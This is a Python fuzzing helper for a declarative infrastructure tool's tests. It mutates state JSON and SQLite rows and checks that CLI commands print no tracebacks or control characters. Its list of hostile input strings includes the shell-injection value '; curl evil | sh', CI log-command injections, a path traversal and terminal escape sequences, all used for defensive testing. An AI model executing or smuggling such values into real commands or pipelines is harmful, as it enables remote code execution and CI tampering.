"""Fuzzes one state: changes it by seed, then reads it, pushes it, plans with it and shows it.

    python -m tests.support.fuzz_states [FIRST [COUNT]]

tries that many seeds and prints what came of them; `test_state_fuzz.py` does the same in CI.
"""

from __future__ import annotations

import contextlib
import copy
import io
import json
import random
import sqlite3
import sys
import tempfile
import traceback
from collections import Counter
from collections.abc import Iterable, Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import click

from declarative.cli import cli
from declarative.cli.options import state_errors
from declarative.cli.plan import compute
from declarative.cli.status import gather
from declarative.converge.project import ProjectSession
from declarative.language.loader import Loaded
from declarative.model.codes import CODES
from declarative.model.diagnostic import Diagnostic, InvalidError
from declarative.model.state import Address, token
from declarative.render.diagnostics import diagnostics_text
from declarative.render.output_json import to_json
from declarative.render.plan import plan_text
from declarative.render.plan_document import plan_json
from declarative.render.status import status_text
from declarative.render.status_view import status_json
from declarative.store.snapshot import dump
from tests.support.fuzz import BASE, applied, as_file
from tests.support.model import NOW

TEXTS = (
    *("", "other", "../..", "a" * 3_000, "\u001b[2J", "\u2028", "\x00", "\ud800", "1e400", "-1", "0", "[1]"),
    *("##vso[task.setvariable variable=x]y", "::add-mask::x", "; curl evil | sh", '{"x": 1}', "9" * 5_000),
    *("node/gpu-0", "gpu-0", "train-0", "data-0", "rank/train-0", "train-0.data-0", "${{ env.HOME }}"),
    *("ready", "running", "succeeded", "unreachable", "lab", "local", "ssh", "create", "delete", "1h"),
)
NUMBERS = (0, -1, 1, 2, 7, 10**6, 10**9, 2**31, 2**53, 2**63, 10**30, 1.5, -0.0, 1e300, -1e300, 1e-300)
OTHERS: tuple[Any, ...] = (
    *(None, True, False, *NUMBERS, *TEXTS),
    *([], ["x"], [1, [2]], [None], {}, {"x": {"y": 1}}, {"": ""}, [{}], {"0": 1}),
)
"""What comes into the place of a value."""

OUTPUTS: dict[str, Any] = {
    "id": "i-1",
    "address": "10.0.0.1",
    "node": "gpu-0",
    "made_as": {"address": "node/gpu-9", "token": "x", "inputs": {"fleet": "gpu"}},
    "noticed_at": 5.0,
    "started_at": 5.0,
    "stopped": True,
    "silent_since": 5.0,
    "given_up": ["train-0.1.1.ab"],
    "drained": {"since": "2026-01-31T12:00:00Z", "reason": "x"},
    "attempt": "train-0.1.1.ab",
    "owner": "x",
    "tags": {"a": "b"},
}
"""What this project's records do not hold, and others do."""


def pulled() -> dict[str, Any]:
    """The state after the fuzzer's project was applied, as `state pull` prints it: a bit of everything."""
    world = applied()
    state = world.state()
    held = {
        (str(r.inputs["node"]), block): r.address.name
        for r in state.of("reservation")
        for block in r.inputs["blocks"]
    }
    data = dump(state, held)
    data["lineage"] = LINEAGE
    seen = {"idle_since": None, "state": "ready", "reason": None, "observed_at": NOW, "can": ["hard"]}
    data["nodes"] = {r.address.name: dict(seen) for r in state.of("node")}
    data["generations"] = {str(address): record.generation for address, record in state.records.items()}
    node = next(r for r in data["records"] if r["address"].startswith("node/"))
    intent = {key: node[key] for key in ("address", "backend", "generation", "inputs", "needs")}
    made = token(LINEAGE, Address.parse(node["address"]), node["generation"], node["inputs"].get("zone"))
    data["intents"] = [{"id": 1, "op": "update", "token": made, **intent}]
    return data


LINEAGE = "00000000-0000-4000-8000-000000000000"


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Where something stands."""
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in items:
        yield (*path, key)
        yield from places(inner, (*path, key))


def mutated(data: dict[str, Any], chance: random.Random) -> dict[str, Any]:
    """The same with one to three things changed."""
    made = copy.deepcopy(data)
    for _ in range(chance.choice((1, 1, 2, 3))):
        _mutate(made, chance)
    return made


def _mutate(made: dict[str, Any], chance: random.Random) -> None:
    section = chance.choice(list(made))  # a state has many more records than anything else
    path = (section, *chance.choice([(), *places(made[section])]))
    inner: Any = made
    for part in path[:-1]:
        inner = inner[part]
    key, how = path[-1], chance.randrange(10)
    if how == 0:
        del inner[key]
    elif how == 1 and isinstance(inner, dict):
        inner[chance.choice((*TEXTS, *OUTPUTS))] = inner.pop(key)
    elif how == 2:
        _put(inner, key, copy.deepcopy(chance.choice(list(_values(made)))))
    elif how == 3 and made.get("records") and isinstance(made["records"], list):
        record = chance.choice(made["records"])
        if isinstance(record, dict) and isinstance(record.get("outputs"), dict):
            name = chance.choice(list(OUTPUTS))
            record["outputs"][name] = chance.choice((OUTPUTS[name], *OTHERS))
    elif how == 4 and made.get("records") and isinstance(made["records"], list):
        _link(made["records"], chance)
    else:
        _put(inner, key, copy.deepcopy(chance.choice(OTHERS)))


def _put(inner: Any, key: Any, value: Any) -> None:
    inner[key] = value


def _values(data: Any) -> Iterator[Any]:
    for path in places(data):
        found = data
        for part in path:
            found = found[part]
        yield found


def _link(records: list[Any], chance: random.Random) -> None:
    """A record that needs another one, or itself."""
    one, other = chance.choice(records), chance.choice(records)
    if isinstance(one, dict) and isinstance(one.get("needs"), list) and isinstance(other, dict):
        one["needs"].append(other.get("address"))


BY_HAND = (
    "state mv --dry-run task/train task/other",
    "state rm --dry-run --cascade node/gpu-0",
    "drain gpu-0",
    "stop train",
)
"""Commands that work on a state that cannot be planned with."""


class Tried:
    """A project, loaded once, with a state that changes."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        (folder / "main.yaml").write_bytes(as_file(BASE))
        self.file = folder / "state.json"
        self.database = folder / "state.db"
        self.data = pulled()
        self.file.write_text(json.dumps(self.data))
        with contextlib.redirect_stderr(io.StringIO()):
            self.run("state", "push", str(self.file), "--state", self.url)
        self.sealed = self.database.read_bytes()
        loaded = self.session(self.url).load(look="contents")
        assert loaded is not None
        self.loaded: Loaded = loaded
        assert self.plan_and_show(self.url) == "taken"

    @property
    def url(self) -> str:
        return f"sqlite:///{self.database}"

    def session(self, url: str) -> ProjectSession:
        return ProjectSession(self.folder, url, (), ())

    def run(self, *args: str) -> str:
        """A whole command; what it printed."""
        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                cli.main(["-C", str(self.folder), *args], standalone_mode=False, obj={})
            except click.ClickException as error:
                error.show()
            except SystemExit:
                pass
        said = out.getvalue() + err.getvalue()
        assert "Traceback" not in said, said
        return said

    def plan_and_show(self, url: str) -> str:
        """`plan --offline` and `status --offline`, but for reading the YAML again."""
        session, shown = self.session(url), ""
        found: tuple[Diagnostic, ...] = ()
        session.load = lambda **_: self.loaded  # type: ignore[method-assign]
        session.declared = lambda **_: self.loaded.desired  # type: ignore[method-assign]
        try:
            with contextlib.redirect_stderr(io.StringIO()):
                plan = compute(session, offline=True, requested=())
                shown = plan_text(plan, color=False, width=100) + to_json(plan_json(plan))
                session.close()
                view = state_errors(gather)(session, offline=True)
                shown += status_text(view, color=False, width=100) + to_json(status_json(view))
        except InvalidError as error:
            found = error.diagnostics
        finally:
            session.close()
        if found:
            shown = diagnostics_text(found, color=False)
            assert all(d.code in CODES for d in found), shown
        fit(shown)
        return "refused" if found else "taken"

    def try_pulled(self, seed: int) -> str:
        """One that `state pull` might have printed: planned with, and pushed."""
        chance = random.Random(seed)
        text = json.dumps(mutated(self.data, chance))
        self.file.write_text(text)
        came = self.plan_and_show(str(self.file))
        if seed % 20 == 0:
            for words in ("state list", "state check", "explain task/train", "state show node/gpu-0"):
                fit(self.run(*words.split(), "--state", str(self.file)))
        if came == "taken" or seed % 10 == 0:
            self.restore()
            fit(self.run("state", "push", "--force", str(self.file), "--state", self.url))
            after = self.plan_and_show(self.url)
            assert after == "taken", "`state push` took what no plan can use"
        return came

    def restore(self) -> None:
        for beside in ("-wal", "-shm", "-journal"):
            Path(f"{self.database}{beside}").unlink(missing_ok=True)
        self.database.write_bytes(self.sealed)

    def try_rows(self, seed: int) -> str:
        """A database whose maker owns the seal as well: it is taken off, or set anew."""
        chance = random.Random(seed)
        self.restore()
        with closing(sqlite3.connect(self.database)) as made:
            made.execute("PRAGMA ignore_check_constraints=ON")
            made.execute("PRAGMA foreign_keys=OFF")
            for _ in range(chance.choice((1, 1, 2, 3))):
                with contextlib.suppress(sqlite3.Error, UnicodeError):
                    _change_row(made, chance)
            made.execute("UPDATE meta SET seal = NULL")
            made.commit()
        came = self.plan_and_show(self.url)
        if seed % 20 == 0:
            for words in ("state list", "state check", "state pull", "state history", *BY_HAND):
                fit(self.run(*words.split(), "--state", self.url))
        return came


def _change_row(made: sqlite3.Connection, chance: random.Random) -> None:
    tables = [
        row[0] for row in made.execute("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
    ]
    table = chance.choice(tables)
    columns = [row[1] for row in made.execute(f"PRAGMA table_info({table})")]
    ids = [row[0] for row in made.execute(f"SELECT rowid FROM {table} ORDER BY rowid")]
    if not ids:
        marks = ", ".join("?" for _ in columns)
        values = [_cell(chance) for _ in columns]
        made.execute(f"INSERT INTO {table} VALUES ({marks})", values)
        return
    column, row = chance.choice(columns), chance.choice(ids)
    have = made.execute(f"SELECT {column} FROM {table} WHERE rowid = ?", (row,)).fetchone()[0]
    value: object = _cell(chance)
    if isinstance(have, str) and have[:1] in "{[" and chance.random() < 0.8:
        with contextlib.suppress(ValueError, RecursionError):  # it was changed before
            inner = {"x": json.loads(have)}
            _mutate(inner, chance)
            value = json.dumps(inner.get("x"))
    elif chance.random() < 0.3:
        other = chance.choice(ids)
        value = made.execute(f"SELECT {column} FROM {table} WHERE rowid = ?", (other,)).fetchone()[0]
    made.execute(f"UPDATE {table} SET {column} = ? WHERE rowid = ?", (value, row))


def _cell(chance: random.Random) -> Any:
    value = chance.choice((*OTHERS, b"\xff", b"", float("inf"), "null", "[" * 5_000, '{"a": NaN}', "5" * 300))
    if isinstance(value, dict | list):
        return json.dumps(value)
    return value if not isinstance(value, int) or abs(value) < 1 << 63 else str(value)


def fit(text: str) -> None:
    """What is shown can be encoded, and holds no control characters."""
    text.encode()
    bad = [c for c in text if (ord(c) < 32 and c != "\n") or 127 <= ord(c) < 160]
    assert not bad, f"raw {bad[0]!r} in what is shown"


def try_seeds(folder: Path, seeds: Iterable[int], *, stop: bool = True) -> Counter[str]:
    """How often each result occurred. A fault is raised with `stop`, else printed and counted."""
    tried, count = Tried(folder), Counter[str]()
    seen: set[str] = set()
    for seed in seeds:
        way = tried.try_rows if seed % 2 else tried.try_pulled
        try:
            count[f"{way.__name__[4:]} {way(seed)}"] += 1
        except Exception as error:
            if stop:
                raise AssertionError(f"seed {seed}: {error!r}") from error
            count["FAILED"] += 1
            last = traceback.extract_tb(error.__traceback__)[-1]
            where = f"{type(error).__name__} {last.filename.rpartition('/')[2]}:{last.lineno}"
            if where not in seen:
                seen.add(where)
                print(f"--- seed {seed}: {where}: {str(error)[:300]}", flush=True)
    return count


if __name__ == "__main__":
    first, number = (int(word) for word in (*sys.argv[1:], "0", "1000")[:2])
    with tempfile.TemporaryDirectory(prefix="fuzz-") as made_in:
        found = try_seeds(Path(made_in), range(first, first + number), stop=False)
    print(dict(found))
